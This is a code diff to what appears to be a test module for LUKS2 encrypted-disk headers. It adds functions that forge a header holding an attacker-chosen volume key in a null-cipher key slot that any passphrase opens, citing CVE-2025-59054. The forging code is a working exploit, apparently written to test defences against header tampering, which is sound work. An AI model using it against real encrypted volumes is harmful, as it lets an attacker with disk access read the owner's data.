@@ -5,6 +5,7 @@ That is what somebody can do who has the disk, but not the passphrase.
 
 from __future__ import annotations
 
+import base64
 import copy
 import dataclasses
 import hashlib
@@ -154,3 +155,29 @@ def double_cipher(text: bytes) -> bytes:
     bad = b'"encryption": "cipher_null-ecb", "encryption": "aes-xts-plain64", "sector_size"'
     assert text.count(good) == 1
     return text.replace(good, bad)
+
+
+def open_to_all(template: Template, **fields: Any) -> dict[int, bytes]:
+    """Make a header with a volume key of one's own, in a key slot that any passphrase opens (CVE-2025-59054)."""
+    key = bytes(range(64))
+
+    def change(metadata: Json) -> None:
+        set_slot_cipher(metadata, "cipher_null-ecb")
+        digest = metadata["digests"]["0"]
+        salt = base64.b64decode(digest["salt"])
+        made = hashlib.pbkdf2_hmac(digest["hash"], key, salt, digest["iterations"], dklen=32)
+        digest["digest"] = base64.b64encode(made).decode()
+
+    stripes = template.metadata["keyslots"]["0"]["af"]["stripes"]
+    return {**template.both(template.changed(change), **fields), SLOTS: split(key, stripes)}
+
+
+def split(key: bytes, stripes: int) -> bytes:
+    """Split a key as LUKS does (with sha256), though with zeros in place of chance: the last part is what matters."""
+    state = bytes(len(key))
+    for _ in range(stripes - 1):
+        blocks = [state[at : at + 32] for at in range(0, len(state), 32)]
+        state = b"".join(
+            hashlib.sha256(number.to_bytes(4, "big") + block).digest() for number, block in enumerate(blocks)
+        )
+    return bytes(len(key) * (stripes - 1)) + bytes(one ^ other for one, other in zip(state, key))
